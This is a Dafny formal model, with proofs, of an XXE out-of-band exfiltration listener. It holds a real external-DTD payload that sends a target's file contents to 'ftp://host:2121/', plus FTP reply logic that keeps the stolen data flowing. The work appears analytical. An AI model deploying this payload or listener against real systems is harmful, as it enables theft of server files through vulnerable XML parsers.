/**
 * The XXE out-of-band exfiltration listener: an HTTP handler that serves a fixed external DTD
 * whose entity points back at an FTP handler, and an FTP handler that answers every chunk a
 * Java XML parser sends with the reply codes that keep the transfer going.
 *
 * Each connection's observable behaviour is a trace of events: bytes sent to the peer and lines
 * passed to the logger (which prints them and writes them to the log file).
 */
module XxeServer {
  import opened Outcomes
  import opened Text

  const FtpPort: nat := 2121
  const WebPort: nat := 8888

  datatype Event = Sent(data: string) | Logged(line: string)

  /** What was sent to the peer, in order. */
  function SentData(trace: seq<Event>): (r: seq<string>)
    ensures |r| <= |trace|
  {
    if trace == [] then []
    else (if trace[0].Sent? then [trace[0].data] else []) + SentData(trace[1..])
  }

  lemma {:induction false} SentDataAppend(a: seq<Event>, b: seq<Event>)
    ensures SentData(a + b) == SentData(a) + SentData(b)
    decreases |a|
  {
    if a == [] {
      assert a + b == b;
    } else {
      assert (a + b)[0] == a[0];
      assert (a + b)[1..] == a[1..] + b;
      SentDataAppend(a[1..], b);
    }
  }

  lemma SentDataCons(e: Event, t: seq<Event>)
    ensures SentData([e] + t) == (if e.Sent? then [e.data] else []) + SentData(t)
  {
    assert ([e] + t)[1..] == t;
  }

  // ---------------------------------------------------------------------------------------
  // The DTD payload
  // ---------------------------------------------------------------------------------------

  /** The payload template: the callback host goes in the first field, the FTP port in the second. */
  const PayloadHead: string := "<!ENTITY % all \"<!ENTITY send SYSTEM 'ftp://"
  const PayloadTail: string := "/%file;'>\">\n%all;"
  const PayloadTemplate: string := PayloadHead + "{}" + ":" + "{}" + PayloadTail

  /** The payload once the script has filled in the public address of its host. */
  function Payload(host: string): (p: string)
    ensures Format(PayloadTemplate, [host, NatToString(FtpPort)]) == Some(p)
    ensures StartsWith(p, PayloadHead + host + ":2121/")
  {
    PayloadFormat(host);
    PayloadHead + host + ":2121" + PayloadTail
  }

  lemma PayloadPieces()
    ensures NoBraces(PayloadHead) && NoBraces(":") && NoBraces(PayloadTail)
    ensures NatToString(FtpPort) == "2121"
  {
    PayloadHeadPlain();
    PortText();
  }

  lemma PayloadHeadPlain()
    ensures NoBraces(PayloadHead)
  {
  }

  /** The FTP port in decimal. */
  lemma PortText()
    ensures NatToString(FtpPort) == "2121"
  {
    assert NatToString(2) == "2";
    assert NatToString(21) == "21";
    assert NatToString(212) == "212";
  }

  lemma PayloadFormat(host: string)
    ensures Format(PayloadTemplate, [host, NatToString(FtpPort)]) == Some(PayloadHead + host + ":2121" + PayloadTail)
    ensures StartsWith(PayloadHead + host + ":2121" + PayloadTail, PayloadHead + host + ":2121/")
  {
    PayloadPieces();
    FormatTwo(PayloadHead, ":", PayloadTail, host, "2121");
    var p := PayloadHead + host + ":2121" + PayloadTail;
    assert PayloadHead + host + ":" + "2121" + PayloadTail == p;
    assert p == (PayloadHead + host + ":2121/") + PayloadTail[1..];
  }

  // ---------------------------------------------------------------------------------------
  // Start-up
  // ---------------------------------------------------------------------------------------

  datatype StartupError = NameError(name: string) | IndexError | Exit(code: int)

  /**
   * The entry point as written: it reads `argv` without importing it, so the very first test
   * raises `NameError` whatever the command line is.
   */
  function StartupAsWritten(argv: seq<string>): (r: Result<string, StartupError>)
  {
    Err(NameError("argv"))
  }

  lemma StartupAsWrittenNeverStarts(argv: seq<string>)
    ensures StartupAsWritten(argv) == Err(NameError("argv"))
    ensures |argv| >= 2 && argv[1] != "" ==> StartupAsWritten(argv) != Startup(argv)
  {
  }

  /**
   * The entry point with `argv` taken from `sys`: a missing argument raises `IndexError`, an
   * empty one exits with status 1, otherwise the payload is built for that host.
   */
  function Startup(argv: seq<string>): (r: Result<string, StartupError>)
    ensures r.Ok? <==> |argv| >= 2 && argv[1] != ""
    ensures r.Ok? ==> r.value == Payload(argv[1])
    ensures |argv| < 2 ==> r == Err(IndexError)
    ensures |argv| >= 2 && argv[1] == "" ==> r == Err(Exit(1))
  {
    if |argv| < 2 then Err(IndexError)
    else if argv[1] == "" then Err(Exit(1))
    else Ok(Payload(argv[1]))
  }

  // ---------------------------------------------------------------------------------------
  // The HTTP handler
  // ---------------------------------------------------------------------------------------

  const StatusLine: string := "HTTP/1.1 200 OK"
  const TypeLine: string := "Content-Type: application/xml"
  const LengthName: string := "Content-length: "
  const ResponseHead: string := StatusLine + "\r\n" + TypeLine + "\r\n" + LengthName
  const ResponseMid: string := "\r\n\r\n"
  const ResponseTail: string := "\r\n\r\n"
  const ResponseTemplate: string := ResponseHead + "{}" + ResponseMid + "{}" + ResponseTail

  /** The one response the HTTP handler sends: the template filled with the payload's length and the payload. */
  function Response(payload: string): (r: string)
    ensures Format(ResponseTemplate, [NatToString(|payload|), payload]) == Some(r)
    ensures EndsWith(r, payload + ResponseTail)
  {
    ResponseFormat(payload);
    ResponseHead + NatToString(|payload|) + ResponseMid + payload + ResponseTail
  }

  lemma ResponsePieces()
    ensures NoBraces(ResponseHead) && NoBraces(ResponseMid) && NoBraces(ResponseTail)
  {
    assert NoBraces(StatusLine) && NoBraces(TypeLine) && NoBraces(LengthName) && NoBraces("\r\n");
  }

  lemma ResponseFormat(payload: string)
    ensures Format(ResponseTemplate, [NatToString(|payload|), payload]) ==
      Some(ResponseHead + NatToString(|payload|) + ResponseMid + payload + ResponseTail)
    ensures EndsWith(ResponseHead + NatToString(|payload|) + ResponseMid + payload + ResponseTail, payload + ResponseTail)
  {
    ResponsePieces();
    FormatTwoEnds(ResponseHead, ResponseMid, ResponseTail, NatToString(|payload|), payload);
  }

  /** Two-field formatting, and the filled template ends with the second argument and the last piece. */
  lemma FormatTwoEnds(a: string, b: string, c: string, x: string, y: string)
    requires NoBraces(a) && NoBraces(b) && NoBraces(c)
    ensures Format(a + "{}" + b + "{}" + c, [x, y]) == Some(a + x + b + y + c)
    ensures EndsWith(a + x + b + y + c, y + c)
  {
    FormatTwo(a, b, c, x, y);
    var r := a + x + b + y + c;
    assert r == (a + x + b) + (y + c);
  }

  /**
   * The value of the `Content-length` header of an HTTP response head, read as a client does:
   * the lines before the first empty one, the first of them that starts with the header name,
   * its digits after the name.
   */
  function ContentLength(resp: string): (n: Option<nat>)
  {
    HeaderValue(Split(resp, "\r\n"), 1, "Content-length: ")
  }

  function HeaderValue(lines: seq<string>, k: nat, name: string): (n: Option<nat>)
    decreases |lines| - k
  {
    if k >= |lines| || lines[k] == "" then None
    else if StartsWith(lines[k], name) then
      var v := lines[k][|name|..];
      if v != "" && AllDigits(v) then Some(DecimalValue(v)) else None
    else HeaderValue(lines, k + 1, name)
  }

  /** A client reading the response's `Content-length` gets the payload's length. */
  lemma ResponseContentLength(payload: string)
    ensures ContentLength(Response(payload)) == Some(|payload|)
  {
    var n := NatToString(|payload|);
    ResponseLines();
    assert '\r' !in n && '\n' !in n;
    HeadValue(StatusLine, TypeLine, LengthName, ResponseHead, n, ResponseMid, payload + ResponseTail);
    assert Response(payload) == ResponseHead + n + ResponseMid + (payload + ResponseTail);
    DecimalRoundTrip(|payload|);
  }

  lemma ResponseLines()
    ensures '\r' !in StatusLine && '\n' !in StatusLine && '\r' !in TypeLine && '\n' !in TypeLine
    ensures '\r' !in LengthName && '\n' !in LengthName
    ensures TypeLine != "" && !StartsWith(TypeLine, LengthName)
  {
    assert TypeLine[8] != LengthName[8];
  }

  /**
   * A head of a status line, a line that is not the header, then the header with a decimal
   * value: the header value read back is that number.
   */
  lemma HeadValue(l0: string, l1: string, name: string, head: string, v: string, mid: string, body: string)
    requires '\r' !in l0 && '\n' !in l0 && '\r' !in l1 && '\n' !in l1
    requires '\r' !in name && '\n' !in name && '\r' !in v && '\n' !in v
    requires l1 != "" && !StartsWith(l1, name) && v != "" && AllDigits(v)
    requires head == l0 + "\r\n" + l1 + "\r\n" + name && mid == "\r\n\r\n"
    ensures HeaderValue(Split(head + v + mid + body, "\r\n"), 1, name) == Some(DecimalValue(v))
  {
    Regroup(l0, l1, name, head, v, mid, body);
    HeadLines(l0, l1, name, v, "\r\n" + body);
  }

  lemma Regroup(l0: string, l1: string, name: string, head: string, v: string, mid: string, body: string)
    requires head == l0 + "\r\n" + l1 + "\r\n" + name && mid == "\r\n\r\n"
    ensures head + v + mid + body == l0 + "\r\n" + (l1 + "\r\n" + (name + v + "\r\n" + ("\r\n" + body)))
  {
    var crlf := "\r\n";
    var l2 := name + v;
    var rest := crlf + body;
    var h1 := l0 + crlf + l1 + crlf;
    assert mid == crlf + crlf;
    Assoc(l0 + crlf, l1 + crlf, l2 + crlf + rest);
    Assoc(l0 + crlf, l1, crlf);
    Assoc(h1, l2 + crlf, rest);
    Assoc(h1, l2, crlf);
    Assoc(h1, name, v);
    Assoc(head + v + crlf, crlf, body);
    Assoc(head + v, crlf, crlf);
  }

  lemma HeadLines(l0: string, l1: string, name: string, v: string, rest: string)
    requires '\r' !in l0 && '\n' !in l0 && '\r' !in l1 && '\n' !in l1
    requires '\r' !in name && '\n' !in name && '\r' !in v && '\n' !in v
    requires l1 != "" && !StartsWith(l1, name) && v != "" && AllDigits(v)
    ensures HeaderValue(Split(l0 + "\r\n" + (l1 + "\r\n" + (name + v + "\r\n" + rest)), "\r\n"), 1, name) ==
      Some(DecimalValue(v))
  {
    var l2 := name + v;
    ThreeLines(l0, l1, l2, rest);
    HeaderSecond([l0, l1, l2] + Split(rest, "\r\n"), name, v);
  }

  lemma ThreeLines(l0: string, l1: string, l2: string, rest: string)
    requires '\r' !in l0 && '\n' !in l0 && '\r' !in l1 && '\n' !in l1 && '\r' !in l2 && '\n' !in l2
    ensures Split(l0 + "\r\n" + (l1 + "\r\n" + (l2 + "\r\n" + rest)), "\r\n") ==
      [l0, l1, l2] + Split(rest, "\r\n")
  {
    LineBreakFirst(l0, l1 + "\r\n" + (l2 + "\r\n" + rest));
    LineBreakFirst(l1, l2 + "\r\n" + rest);
    LineBreakFirst(l2, rest);
  }

  lemma HeaderSecond(lines: seq<string>, name: string, v: string)
    requires |lines| >= 3 && lines[1] != "" && !StartsWith(lines[1], name)
    requires lines[2] == name + v && v != "" && AllDigits(v)
    ensures HeaderValue(lines, 1, name) == Some(DecimalValue(v))
  {
    assert lines[2][..|name|] == name;
    assert lines[2][|name|..] == v;
  }

  /** Splitting a line free of `\r` and `\n` off the front of a text at the next line break. */
  lemma LineBreakFirst(line: string, rest: string)
    requires '\r' !in line && '\n' !in line
    ensures Split(line + "\r\n" + rest, "\r\n") == [line] + Split(rest, "\r\n")
  {
    var s := line + "\r\n" + rest;
    assert '\n' !in line + "\r";
    MissingCharNotContained(line + "\r", "\r\n", '\n');
    assert "\r\n"[..1] == "\r";
    FindAfterPrefix(line, "\r\n", rest);
    SplitStep(s, "\r\n", |line|);
    assert s[..|line|] == line;
    assert s[|line| + 2..] == rest;
  }

  /** What the HTTP handler does on one connection, given the stripped request it read. */
  function WebExchange(peer: string, payload: string, request: string): (t: seq<Event>)
    ensures SentData(t) == [Response(payload)]
  {
    var resp := Response(payload);
    var last := [Logged("[WEB] Replied with:\n" + resp)];
    var t := [Logged("[WEB] " + peer + " Connected and sent:")] + ([Logged(Strip(request, AsciiWhitespace))] +
              ([Sent(resp)] + last));
    SentDataCons(Logged("[WEB] Replied with:\n" + resp), []);
    assert last == [Logged("[WEB] Replied with:\n" + resp)] + [];
    SentDataCons(Sent(resp), last);
    SentDataCons(Logged(Strip(request, AsciiWhitespace)), [Sent(resp)] + last);
    SentDataCons(Logged("[WEB] " + peer + " Connected and sent:"), [Logged(Strip(request, AsciiWhitespace))] + ([Sent(resp)] + last));
    t
  }

  /** The response sent does not depend on what the client sent. */
  lemma ResponseIgnoresRequest(peer: string, payload: string, r1: string, r2: string)
    ensures SentData(WebExchange(peer, payload, r1)) == SentData(WebExchange(peer, payload, r2))
  {
  }

  class WebHandler {
    const peer: string
    const payload: string
    var trace: seq<Event>

    constructor (peer: string, payload: string)
      ensures this.peer == peer && this.payload == payload && trace == []
    {
      this.peer := peer;
      this.payload := payload;
      trace := [];
    }

    /** Reads the request, logs it stripped, sends the fixed response and logs it. */
    method Handle(request: string)
      modifies this
      ensures trace == old(trace) + WebExchange(peer, payload, request)
    {
      var resp := Response(payload);
      var data := Strip(request, AsciiWhitespace);
      trace := trace + [Logged("[WEB] " + peer + " Connected and sent:")];
      trace := trace + [Logged(data)];
      trace := trace + [Sent(resp)];
      trace := trace + [Logged("[WEB] Replied with:\n" + resp)];
    }
  }

  // ---------------------------------------------------------------------------------------
  // The FTP handler
  // ---------------------------------------------------------------------------------------

  const Greeting: string := "220 xxe-ftp-server\n"
  const ListEntry: string := "drwxrwxrwx 1 owner group          1 Feb 21 04:37 rsl\n"
  const ListOpening: string := "150 Opening BINARY mode data connection for /bin/ls\n"
  const ListDone: string := "226 Transfer complete.\n"
  const UserReply: string := "331 password please - version check\n"
  const PortReply: string := "200 PORT command ok\n"
  const SystReply: string := "215 RSL\n"
  const MoreReply: string := "230 more data please!\n"

  /** The keyword a received chunk is answered for. */
  datatype Command = List | User | Port | Syst | Other

  /** The first of LIST, USER, PORT and SYST that occurs anywhere in the chunk. */
  function Classify(data: string): (c: Command)
  {
    if Contains(data, "LIST") then List
    else if Contains(data, "USER") then User
    else if Contains(data, "PORT") then Port
    else if Contains(data, "SYST") then Syst
    else Other
  }

  /** Keyword priority: each answer is chosen exactly when its keyword occurs and no earlier one does. */
  lemma ClassifyPriority(data: string)
    ensures Classify(data) == List <==> Contains(data, "LIST")
    ensures Classify(data) == User <==> !Contains(data, "LIST") && Contains(data, "USER")
    ensures Classify(data) == Port <==> !Contains(data, "LIST") && !Contains(data, "USER") && Contains(data, "PORT")
    ensures Classify(data) == Syst <==>
      !Contains(data, "LIST") && !Contains(data, "USER") && !Contains(data, "PORT") && Contains(data, "SYST")
  {
  }

  /** What the handler does in answer to one command, after logging the chunk. */
  function Answer(c: Command): (t: seq<Event>)
  {
    match c
    case List => [Sent(ListEntry), Sent(ListOpening), Sent(ListDone)]
    case User => [Sent(UserReply)]
    case Port => [Logged("[FTP] ! PORT received"), Logged("[FTP] > 200 PORT command ok"), Sent(PortReply)]
    case Syst => [Sent(SystReply)]
    case Other => [Logged("[FTP] > 230 more data please!"), Sent(MoreReply)]
  }

  /** The reply lines sent for each command, in order. */
  function Replies(c: Command): (r: seq<string>)
  {
    match c
    case List => [ListEntry, ListOpening, ListDone]
    case User => [UserReply]
    case Port => [PortReply]
    case Syst => [SystReply]
    case Other => [MoreReply]
  }

  /** Each answer sends exactly its reply lines, in order, and nothing else. */
  lemma AnswerSends(c: Command)
    ensures SentData(Answer(c)) == Replies(c)
  {
    match c
    case List =>
      assert Answer(c) == [Sent(ListEntry)] + ([Sent(ListOpening)] + ([Sent(ListDone)] + []));
      SentDataCons(Sent(ListDone), []);
      SentDataCons(Sent(ListOpening), [Sent(ListDone)] + []);
      SentDataCons(Sent(ListEntry), [Sent(ListOpening)] + ([Sent(ListDone)] + []));
    case User =>
      assert Answer(c) == [Sent(UserReply)] + [];
      SentDataCons(Sent(UserReply), []);
    case Port =>
      var l1, l2 := Logged("[FTP] ! PORT received"), Logged("[FTP] > 200 PORT command ok");
      assert Answer(c) == [l1] + ([l2] + ([Sent(PortReply)] + []));
      SentDataCons(Sent(PortReply), []);
      SentDataCons(l2, [Sent(PortReply)] + []);
      SentDataCons(l1, [l2] + ([Sent(PortReply)] + []));
    case Syst =>
      assert Answer(c) == [Sent(SystReply)] + [];
      SentDataCons(Sent(SystReply), []);
    case Other =>
      var l := Logged("[FTP] > 230 more data please!");
      assert Answer(c) == [l] + ([Sent(MoreReply)] + []);
      SentDataCons(Sent(MoreReply), []);
      SentDataCons(l, [Sent(MoreReply)] + []);
  }

  /** One turn of the loop: the chunk as read is stripped, logged, then answered. */
  function Turn(chunk: string): (t: seq<Event>)
  {
    Group(Strip(chunk, AsciiWhitespace))
  }

  /** The events for one stripped chunk: the chunk logged, then its answer. */
  function Group(data: string): (t: seq<Event>)
  {
    [Logged("[FTP] Received:\n" + data)] + Answer(Classify(data))
  }

  /** The groups of events of consecutive turns, one after the other. */
  function Flatten(groups: seq<seq<Event>>): (t: seq<Event>)
  {
    if groups == [] then [] else Flatten(groups[..|groups| - 1]) + groups[|groups| - 1]
  }

  lemma {:induction false} FlattenAppend(x: seq<seq<Event>>, y: seq<seq<Event>>)
    ensures Flatten(x + y) == Flatten(x) + Flatten(y)
    decreases |y|
  {
    if y == [] {
      assert x + y == x;
    } else {
      var y' := y[..|y| - 1];
      FlattenAppend(x, y');
      assert (x + y)[..|x + y| - 1] == x + y';
      assert (x + y)[|x + y| - 1] == y[|y| - 1];
    }
  }

  lemma {:induction false} FlattenNotIn(groups: seq<seq<Event>>, e: Event)
    requires forall k :: 0 <= k < |groups| ==> e !in groups[k]
    ensures e !in Flatten(groups)
    decreases |groups|
  {
    if groups != [] {
      FlattenNotIn(groups[..|groups| - 1], e);
    }
  }

  /** The turn of each chunk read, in order. */
  function Groups(chunks: seq<string>): (gs: seq<seq<Event>>)
  {
    seq(|chunks|, k requires 0 <= k < |chunks| => Turn(chunks[k]))
  }

  /** The turns for a sequence of chunks, in the order they were read. */
  function Turns(chunks: seq<string>): (t: seq<Event>)
  {
    Flatten(Groups(chunks))
  }

  /** One more chunk read adds its turn at the end. */
  lemma TurnsSnoc(chunks: seq<string>, i: nat)
    requires i < |chunks|
    ensures Turns(chunks[..i + 1]) == Turns(chunks[..i]) + Turn(chunks[i])
  {
    var g := Groups(chunks[..i + 1]);
    assert g[..i] == Groups(chunks[..i]);
    assert g[i] == Turn(chunks[i]);
  }

  lemma FlattenSingle(e: seq<Event>)
    ensures Flatten([e]) == e
  {
    assert [e][..0] == [];
  }

  lemma AppendStep(o: seq<Event>, done: seq<Event>, t: seq<Event>, done': seq<Event>, before: seq<Event>, after: seq<Event>)
    requires before == o + done && done' == done + t && after == before + t
    ensures after == o + done'
  {
  }

  lemma FlattenMiddle(pre: seq<seq<Event>>, e: seq<Event>, post: seq<seq<Event>>)
    ensures Flatten(pre + [e] + post) == Flatten(pre) + e + Flatten(post)
  {
    FlattenAppend(pre + [e], post);
    FlattenAppend(pre, [e]);
    FlattenSingle(e);
  }

  lemma FlattenAt(g: seq<seq<Event>>, i: nat)
    requires i < |g|
    ensures Flatten(g) == Flatten(g[..i]) + g[i] + Flatten(g[i + 1..])
  {
    Around(g, i);
    FlattenMiddle(g[..i], g[i], g[i + 1..]);
  }

  lemma Around<T>(g: seq<T>, i: nat)
    requires i < |g|
    ensures g == g[..i] + [g[i]] + g[i + 1..]
  {
  }

  lemma GroupsPrefix(chunks: seq<string>, i: nat)
    requires i <= |chunks|
    ensures Groups(chunks)[..i] == Groups(chunks[..i])
  {
  }

  lemma GroupsSuffix(chunks: seq<string>, i: nat)
    requires i <= |chunks|
    ensures Groups(chunks)[i..] == Groups(chunks[i..])
  {
  }

  /** Exactly one group per chunk, in order: the trace of all turns is that of the ones before, this one's, and those after. */
  lemma TurnAt(chunks: seq<string>, i: nat)
    requires i < |chunks|
    ensures Turns(chunks) == Turns(chunks[..i]) + Turn(chunks[i]) + Turns(chunks[i + 1..])
  {
    FlattenAt(Groups(chunks), i);
    GroupsPrefix(chunks, i);
    GroupsSuffix(chunks, i + 1);
  }

  /** What a turn sends: the reply lines of the command its stripped chunk names. */
  lemma TurnSends(chunk: string)
    ensures SentData(Turn(chunk)) == Replies(Classify(Strip(chunk, AsciiWhitespace)))
  {
    GroupSends(Strip(chunk, AsciiWhitespace));
  }

  lemma GroupSends(data: string)
    ensures SentData(Group(data)) == Replies(Classify(data))
  {
    SentDataCons(Logged("[FTP] Received:\n" + data), Answer(Classify(data)));
    AnswerSends(Classify(data));
  }

  /** A chunk naming LIST, even alongside USER, gets the directory entry, then 150, then 226. */
  lemma ListAnswer(chunk: string)
    requires Contains(Strip(chunk, AsciiWhitespace), "LIST")
    ensures SentData(Turn(chunk)) == [ListEntry, ListOpening, ListDone]
  {
    TurnSends(chunk);
  }

  /** A chunk with none of the four keywords is answered with the 230 line alone. */
  lemma DefaultAnswer(chunk: string)
    requires !Contains(Strip(chunk, AsciiWhitespace), "LIST") && !Contains(Strip(chunk, AsciiWhitespace), "USER")
    requires !Contains(Strip(chunk, AsciiWhitespace), "PORT") && !Contains(Strip(chunk, AsciiWhitespace), "SYST")
    ensures SentData(Turn(chunk)) == [MoreReply]
  {
    TurnSends(chunk);
  }

  /** Every turn first logs the stripped chunk, and every turn sends at least one line. */
  lemma TurnLogsBeforeReply(chunk: string)
    ensures Turn(chunk)[0] == Logged("[FTP] Received:\n" + Strip(chunk, AsciiWhitespace))
    ensures SentData(Turn(chunk)) != []
  {
    TurnSends(chunk);
  }

  /** The exception that ends the loop: its arguments and its text. */
  datatype Failure = Failure(args: seq<string>, text: string)

  /** In Python 2, `"timed out" in e` looks for the string among the exception's arguments. */
  predicate TimedOut(f: Failure) {
    "timed out" in f.args
  }

  function Opening(peer: string): seq<Event> {
    [Logged("[FTP] " + peer + " has connected"), Sent(Greeting)]
  }

  function ClosingLine(peer: string): string {
    "[FTP] Connection closed with " + peer
  }

  function Closing(peer: string, f: Failure): seq<Event> {
    [Logged(if TimedOut(f) then "[FTP] Client timed out" else "[FTP] Client error: " + f.text),
     Logged(ClosingLine(peer))]
  }

  /** A whole FTP connection: greeting, one turn per chunk read, then the failure that ended the loop. */
  function Session(peer: string, chunks: seq<string>, f: Failure): seq<Event> {
    Opening(peer) + Turns(chunks) + Closing(peer, f)
  }

  lemma SessionRegroup(t0: seq<Event>, o: seq<Event>, t: seq<Event>, c: seq<Event>)
    ensures t0 + o + t + c == t0 + (o + t + c)
  {
    Assoc(t0, o, t);
    Assoc(t0, o + t, c);
  }

  /** The greeting is the first thing sent, and after it come the replies of the turns and nothing else. */
  lemma SessionSent(peer: string, chunks: seq<string>, f: Failure)
    ensures SentData(Session(peer, chunks, f)) == [Greeting] + SentData(Turns(chunks))
  {
    SentDataAppend(Opening(peer) + Turns(chunks), Closing(peer, f));
    SentDataAppend(Opening(peer), Turns(chunks));
    assert SentData(Closing(peer, f)) == [];
    assert SentData(Opening(peer)) == [Greeting];
  }

  /** A log line that starts `[FTP] C`, as the closing line does, is never part of an answer. */
  lemma AnswerNoClosing(c: Command, line: string)
    requires |line| > 6 && line[6] == 'C'
    ensures Logged(line) !in Answer(c)
  {
    assert "[FTP] ! PORT received"[6] == '!';
    assert "[FTP] > 200 PORT command ok"[6] == '>';
    assert "[FTP] > 230 more data please!"[6] == '>';
  }

  /** No turn logs a line starting `[FTP] C`: each turn's own lines start `[FTP] R`, `[FTP] !` or `[FTP] >`. */
  lemma TurnsNoClosing(chunks: seq<string>, line: string)
    requires |line| > 6 && line[6] == 'C'
    ensures Logged(line) !in Turns(chunks)
  {
    var g := Groups(chunks);
    forall k | 0 <= k < |g|
      ensures Logged(line) !in g[k]
    {
      TurnNoClosing(chunks[k], line);
    }
    FlattenNotIn(g, Logged(line));
  }

  lemma TurnNoClosing(chunk: string, line: string)
    requires |line| > 6 && line[6] == 'C'
    ensures Logged(line) !in Turn(chunk)
  {
    GroupNoClosing(Strip(chunk, AsciiWhitespace), line);
  }

  /** The group of a chunk logs a line starting `[FTP] R` and then answers, so it never logs one starting `[FTP] C`. */
  lemma GroupNoClosing(data: string, line: string)
    requires |line| > 6 && line[6] == 'C'
    ensures Logged(line) !in Group(data)
  {
    var received := "[FTP] Received:\n" + data;
    assert received[6] == 'R';
    AnswerNoClosing(Classify(data), line);
  }

  /** The closing line is the last event of a session and it is logged exactly once. */
  lemma ClosingOnce(peer: string, chunks: seq<string>, f: Failure)
    ensures Session(peer, chunks, f)[|Session(peer, chunks, f)| - 1] == Logged(ClosingLine(peer))
    ensures multiset(Session(peer, chunks, f))[Logged(ClosingLine(peer))] == 1
  {
    var line := ClosingLine(peer);
    assert line[6] == 'C' && line[7] == 'o';
    TurnsNoClosing(chunks, line);
    ClosingAfter(peer, Turns(chunks), f);
  }

  /** The closing line ends the events of a connection when the turns in between never log it. */
  lemma ClosingAfter(peer: string, turns: seq<Event>, f: Failure)
    requires Logged(ClosingLine(peer)) !in turns
    ensures var s := Opening(peer) + turns + Closing(peer, f);
      s[|s| - 1] == Logged(ClosingLine(peer)) && multiset(s)[Logged(ClosingLine(peer))] == 1
  {
    var line := ClosingLine(peer);
    assert line[7] == 'o';
    var hello := "[FTP] " + peer + " has connected";
    assert |hello| != |line|;
    var first := if TimedOut(f) then "[FTP] Client timed out" else "[FTP] Client error: " + f.text;
    assert first[7] == 'l';
    var before := Opening(peer) + turns + [Logged(first)];
    assert Logged(line) !in before;
    assert Opening(peer) + turns + Closing(peer, f) == before + [Logged(line)];
  }

  /** The `if`/`elif` chain over a stripped chunk: the events that answer it. */
  method Reply(data: string) returns (group: seq<Event>)
    ensures group == Answer(Classify(data))
  {
    if Contains(data, "LIST") {
      group := [Sent(ListEntry), Sent(ListOpening), Sent(ListDone)];
    } else if Contains(data, "USER") {
      group := [Sent(UserReply)];
    } else if Contains(data, "PORT") {
      group := [Logged("[FTP] ! PORT received"), Logged("[FTP] > 200 PORT command ok"), Sent(PortReply)];
    } else if Contains(data, "SYST") {
      group := [Sent(SystReply)];
    } else {
      group := [Logged("[FTP] > 230 more data please!"), Sent(MoreReply)];
    }
  }

  lemma LoggedThenReply(t0: seq<Event>, data: string, group: seq<Event>)
    requires group == Answer(Classify(data))
    ensures t0 + [Logged("[FTP] Received:\n" + data)] + group == t0 + Group(data)
  {
  }

  class FtpHandler {
    const peer: string
    var trace: seq<Event>

    constructor (peer: string)
      ensures this.peer == peer && trace == []
    {
      this.peer := peer;
      trace := [];
    }

    /** Logs the connection and sends the greeting, before anything is read. */
    method Greet()
      modifies this
      ensures trace == old(trace) + Opening(peer)
    {
      trace := trace + [Logged("[FTP] " + peer + " has connected")];
      trace := trace + [Sent(Greeting)];
    }

    /** One pass of the loop body for a chunk as read from the socket. */
    method Receive(chunk: string)
      modifies this
      ensures trace == old(trace) + Turn(chunk)
    {
      var data := Strip(chunk, AsciiWhitespace);
      var group := Reply(data);
      ghost var t0 := trace;
      trace := trace + [Logged("[FTP] Received:\n" + data)] + group;
      LoggedThenReply(t0, data, group);
    }

    /** The handler for the exception that ended the loop, then the closing line. */
    method Close(f: Failure)
      modifies this
      ensures trace == old(trace) + Closing(peer, f)
    {
      if "timed out" in f.args {
        trace := trace + [Logged("[FTP] Client timed out")];
      } else {
        trace := trace + [Logged("[FTP] Client error: " + f.text)];
      }
      trace := trace + [Logged(ClosingLine(peer))];
    }

    /** The `while True` loop: reads and answers the chunks in order. */
    method Serve(chunks: seq<string>)
      modifies this
      ensures trace == old(trace) + Turns(chunks)
    {
      var i := 0;
      while i < |chunks|
        invariant i <= |chunks|
        invariant trace == old(trace) + Turns(chunks[..i])
      {
        ghost var before := trace;
        Receive(chunks[i]);
        TurnsSnoc(chunks, i);
        AppendStep(old(trace), Turns(chunks[..i]), Turn(chunks[i]), Turns(chunks[..i + 1]), before, trace);
        i := i + 1;
      }
      assert chunks[..i] == chunks;
    }

    /**
     * The connection handler: greets, then reads and answers the chunks in order until `f` is
     * raised, taken here to happen between two whole turns.
     */
    method Handle(chunks: seq<string>, f: Failure)
      modifies this
      ensures trace == old(trace) + Session(peer, chunks, f)
    {
      ghost var t0 := trace;
      Greet();
      Serve(chunks);
      Close(f);
      SessionRegroup(t0, Opening(peer), Turns(chunks), Closing(peer, f));
    }
  }
}
